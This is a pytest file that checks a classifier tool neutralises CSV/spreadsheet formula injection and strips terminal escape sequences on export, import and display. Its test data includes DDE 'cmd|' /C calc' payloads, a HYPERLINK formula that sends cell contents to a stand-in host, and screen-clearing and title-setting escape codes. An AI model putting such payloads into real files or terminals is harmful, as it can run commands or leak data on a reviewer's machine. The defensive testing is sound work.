"""Spreadsheet formulas, control characters and terminal escapes in third-party text: every file a
reviewer may open in Excel holds them as text (OWASP CSV-injection guidance), the tool reads its own
files back unchanged, and nothing reaches the terminal as an escape sequence. Data generated here."""
from __future__ import annotations

import csv
import io
import json
import random

import pytest

from classifier.io.cells import csv_cell, read_cell, terminal_text, xlsx_value

HOSTILE = ["=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1", "'=1+1", "'", "''quoted", "-", "=", "+"]
HARMLESS = ["peer support", "-0.5", "12", "1e-3", "", "a=b", "O'Brien", "'plain"]


@pytest.mark.parametrize("value", HOSTILE + HARMLESS)
def test_csv_cell_round_trips(value):
    assert read_cell(csv_cell(value)) == value


@pytest.mark.parametrize("value", HOSTILE)
def test_risky_cells_start_with_an_apostrophe(value):
    assert csv_cell(value).startswith("'")


@pytest.mark.parametrize("value", ["peer support", "-0.5", "12", "a=b", "O'Brien"])
def test_harmless_cells_are_unchanged(value):
    assert csv_cell(value) == value


def test_xlsx_value_keeps_text_and_drops_what_a_workbook_cannot_hold():
    assert xlsx_value("=1+1") == ("=1+1", True)
    assert xlsx_value("a\x00b\x1bc\ud800") == ("abc\ufffd", False)
    assert xlsx_value(0.5) == (0.5, False)


def test_terminal_text_strips_escape_sequences_and_controls():
    raw = "Title \x1b[2J\x1b[31mred\x1b[0m \x1b]0;owned\x07 bell\x07 back\x08 \x9b1m ok\ttab\nline"
    cleaned = terminal_text(raw)
    assert not any(c in cleaned for c in "\x1b\x07\x08\x9b") and "red" in cleaned and "\ttab\nline" in cleaned


def _predictions(tmp_path, titles):
    from helpers.sample import make_prediction

    rng = random.Random(0)
    preds = []
    for i, title in enumerate(titles):
        p = make_prediction(i, rng)
        p["title"] = title
        preds.append(p)
    preds[0]["id"] = "=cmd|' /C calc'!A0"
    path = tmp_path / "predictions.jsonl"
    path.write_text("".join(json.dumps(p) + "\n" for p in preds), encoding="utf-8")
    return path, preds


def test_predictions_csv_and_workbook_hold_formulas_as_text(tmp_path, monkeypatch):
    from openpyxl import load_workbook

    from classifier.batch.cli import main as predict_main
    from classifier.io.csv_out import CsvWriter
    from classifier.io.xlsx_out import XlsxWriter

    row = {"id": "@SUM(1)", "source": "=x.pdf", "status": "ok", "error": "", "title": "=HYPERLINK(\"http://x\")",
           "role": "peer_support", "role_confidence": 0.8, "evidence": {}}
    with CsvWriter(tmp_path / "p.csv") as writer:
        writer.write(row)
    with open(tmp_path / "p.csv", encoding="utf-8", newline="") as handle:
        (got,) = list(csv.DictReader(handle))
    assert (got["id"], got["source"], got["title"]) == ("'@SUM(1)", "'=x.pdf", "'=HYPERLINK(\"http://x\")")
    assert got["role_confidence"] == "0.8"
    with XlsxWriter(tmp_path / "p.xlsx") as writer:
        writer.write(dict(row, title="=1+1\x1b[31m\x00"))
    ws = load_workbook(tmp_path / "p.xlsx").active
    cell = ws.cell(row=2, column=2)
    assert cell.value == "=1+1[31m" and cell.data_type == "s" and cell.quotePrefix


def test_review_queue_export_neutralises_and_import_reads_back(tmp_path):
    from openpyxl import load_workbook

    from classifier.review.cli import main as review
    from classifier.review.store import LabelStore

    titles = ["=HYPERLINK(\"http://evil.test\",\"x\")", "Control\x00chars\x1b[2J\x07 in a title", "+cmd", "plain"]
    pred_file, preds = _predictions(tmp_path, titles)
    queue = tmp_path / "queue.csv"
    assert review(["export", str(queue), "--predictions", str(pred_file), "--top", "4",
                   "--strategy", "random"]) == 0
    text = queue.read_text("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    by_title = {r["title"] for r in rows}
    assert "'=HYPERLINK(\"http://evil.test\",\"x\")" in by_title and "'+cmd" in by_title
    assert not any(r["id"].startswith("=") or r["title"].startswith(("=", "+", "-", "@")) for r in rows)
    xqueue = tmp_path / "queue.xlsx"
    assert review(["export", str(xqueue), "--predictions", str(pred_file), "--top", "4",
                   "--strategy", "random"]) == 0  # control characters: no crash
    ws = load_workbook(xqueue)["queue"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    # a reviewer fills in the CSV queue, with a note that looks like a formula
    for r in rows:
        r.update(role="peer_support", reviewer="=evil()", note="-note +2")
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    for r in rows:  # as saved by a spreadsheet: the cells it was given, apostrophes included
        writer.writerow({k: csv_cell(read_cell(v)) for k, v in r.items()})
    queue.write_text("\ufeff" + buf.getvalue(), encoding="utf-8")
    labels = tmp_path / "labels.csv"
    assert review(["import", str(queue), "--annotations", str(labels)]) == 0
    raw = labels.read_text("utf-8")
    assert "'=cmd|' /C calc'!A0" in raw and "'=evil()" in raw and not any(
        cell.startswith(("=", "+", "@")) for line in csv.reader(io.StringIO(raw)) for cell in line)
    store = LabelStore(labels)
    assert store.labels()[preds[0]["id"]]["role"] == "peer_support"  # the id read back unchanged
    log = store.log()
    assert log and {r["reviewer"] for r in log} == {"=evil()"} and {r["note"] for r in log} == {"-note +2"}
    log_text = store.log_path.read_text("utf-8")
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in csv.reader(io.StringIO(log_text))
                   for cell in line)
    from classifier.io.labels import read_labels

    frame = read_labels(labels)
    assert preds[0]["id"] in frame.index and set(frame["reviewed_by"]) == {"=evil()"}


def test_terminal_review_shows_no_escape_sequences(tmp_path):
    from classifier.review.cli import main as review

    pred_file, _ = _predictions(tmp_path, ["Evil \x1b]0;pwned\x07\x1b[2J title", "b", "c"])
    out = io.StringIO()
    import sys

    stdin, stdout = sys.stdin, sys.stdout
    sys.stdin, sys.stdout = io.StringIO("q\n"), out
    try:
        review(["session", "--predictions", str(pred_file), "--annotations", str(tmp_path / "labels.csv"),
                "--reviewer", "ana", "--strategy", "random"])
    finally:
        sys.stdin, sys.stdout = stdin, stdout
    shown = out.getvalue()
    assert "Evil" in shown and "\x1b" not in shown and "\x07" not in shown


def test_extract_prints_no_escape_sequences_from_the_document(tmp_path, capsys):
    from classifier.extract.cli import main as extract

    path = tmp_path / "paper.txt"
    path.write_text("Peer workers \x1b]0;owned\x07title\n\nAbstract\nText \x1b[2J\x1b[31mwith\x9b1m codes.\n",
                    encoding="utf-8")
    assert extract([str(path)]) == 0
    out = capsys.readouterr().out
    assert "Peer workers" in out and "codes." in out and not any(c in out for c in "\x1b\x07\x9b")
